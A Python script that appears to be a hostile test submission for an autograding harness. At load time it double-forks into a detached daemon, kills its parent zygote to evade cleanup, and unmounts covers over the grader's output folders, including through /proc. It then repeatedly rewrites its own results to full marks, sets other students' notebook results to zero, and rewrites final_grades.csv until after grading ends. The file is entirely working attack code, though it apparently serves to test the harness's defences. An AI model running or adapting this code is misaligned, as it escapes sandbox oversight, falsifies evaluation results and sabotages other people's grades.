# solves:
"""Forged results from a daemon that outlives the batch: at load time it double-forks and
starts a new session, names itself hostile-daemon, kills its zygote (so no subreaper cleans
it up), then keeps rewriting results/forge_daemon.json (full marks), the results of the
classmates who submitted notebooks (zero) and final_grades.csv, until AFTER seconds after
the grading command has exited.
Output folders come from the grading command's --output (unmounting what covers it, also
through /proc/<pid>/root) and from the working directory's ancestors and /tmp. It gives up after 20 s when it can see
no grading command, and after LIFETIME seconds in any case."""
import csv
import glob
import io
import json
import os
import time
from _toolkit import (RUN_MARK, ancestors_of, grading_tree, is_harness_grade, kill_quietly, log, my_ancestors,
                      name_process, processes, report, uncover)

OWN_STEM = "forge_daemon"
LIFETIME, ALONE, AFTER = 240.0, 20.0, 10


def outputs(nearby):
    """(output folders of the harness's grade commands, their pids); ``nearby``: folders to look in too."""
    folders, pids = [], set()
    for pid, argv in processes().items():
        if is_harness_grade(argv) and "--output" in argv[:-1]:
            out = argv[argv.index("--output") + 1]
            pids.add(pid)
            if not os.path.isdir(os.path.join(out, "results")):
                uncover([(out, False)])  # a mount that hides it here
            folders += [out, f"/proc/{pid}/root{out}", f"/proc/{pid}/cwd/{out}"]
    for base in nearby:
        folders += [os.path.dirname(p) for p in glob.glob(os.path.join(base, "*", "final_grades.csv")) if RUN_MARK in p]
    return [f for f in folders if os.path.isdir(os.path.join(f, "results"))], pids


def write(path, text):
    try:
        temporary = f"{path}.{os.getpid()}.tmp"
        with open(temporary, "w") as handle:
            handle.write(text)
        os.replace(temporary, path)
        return True
    except OSError:
        try:
            with open(path, "w") as handle:
                handle.write(text)
            return True
        except OSError:
            return False


def forged_result(path, full):
    with open(path) as handle:
        data = json.load(handle)
    for question in data["questions"]:
        question["points"] = question["max_points"] if full else 0.0
        question["status"] = "passed" if full else "failed"
        for test in question["tests"]:
            test.update(points=test["max_points"] if full else 0.0, passed=full, message="")
    possible = sum(q["max_points"] for q in data["questions"])
    data.update(status="graded", limits_hit=[], cells=[], total=possible if full else 0.0, possible=possible,
                percent=100.0 if full else 0.0)
    return data


def notebook_result(path):
    try:
        with open(path) as handle:
            return json.load(handle).get("file", "").endswith(".ipynb")
    except (OSError, ValueError, AttributeError):
        return False


def forge(out):
    written = 0
    maxima = {}
    targets = [(os.path.join(out, "results", OWN_STEM + ".json"), True)]
    targets += [(p, False) for p in glob.glob(os.path.join(out, "results", "*.json")) if notebook_result(p)]
    for path, full in targets:
        try:
            data = forged_result(path, full)
        except (OSError, ValueError, KeyError, TypeError):
            continue
        maxima.update({q["id"]: q["max_points"] for q in data["questions"]} if full else {})
        written += write(path, json.dumps(data, indent=1))
    sheet = os.path.join(out, "final_grades.csv")
    try:
        with open(sheet) as handle:
            rows = list(csv.DictReader(handle))
    except OSError:
        rows = []
    if rows and maxima:
        for row in rows:
            full = row["file"].startswith(OWN_STEM)
            if full or row["file"].endswith(".ipynb"):
                row.update({q: str(m if full else 0) for q, m in maxima.items() if q in row})
                total = sum(maxima.values()) if full else 0
                row.update(total=str(total), percent="100" if full else "0", status="graded")
        buffer = io.StringIO()
        writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        written += write(sheet, buffer.getvalue())
    return written


def daemon(zygote, nearby):
    if zygote:
        kill_quietly(zygote)  # at once: the zygote kills what its sandboxes leave once they end
    name_process("hostile-daemon")
    os.chdir("/")  # the sandbox's folder may go away
    started, seen, folders = time.monotonic(), set(), []
    while time.monotonic() - started < LIFETIME:
        found, pids = outputs(nearby)
        folders, seen = found or folders, seen | pids
        for out in folders:
            forge(out)
        if seen and not any(os.path.exists(f"/proc/{pid}") for pid in seen):
            for _ in range(2 * AFTER):  # the grading command has exited: its last sheet gets forged too
                time.sleep(0.5)
                for out in folders:
                    forge(out)
            return
        if not seen and time.monotonic() - started > ALONE:
            return
        time.sleep(0.3)


def launch():
    zygote = (my_ancestors() + [0, 0])[1]
    zygote = zygote if zygote in grading_tree()[1] else 0  # the safety bound, checked before the fork
    nearby = ancestors_of(os.getcwd()) + ["/tmp", "/var/tmp"]
    first = os.fork()
    if first == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.closerange(3, 65536)
                daemon(zygote, nearby)
        finally:
            os._exit(0)
    os.waitpid(first, 0)
    log("daemon started")


launch()
report()
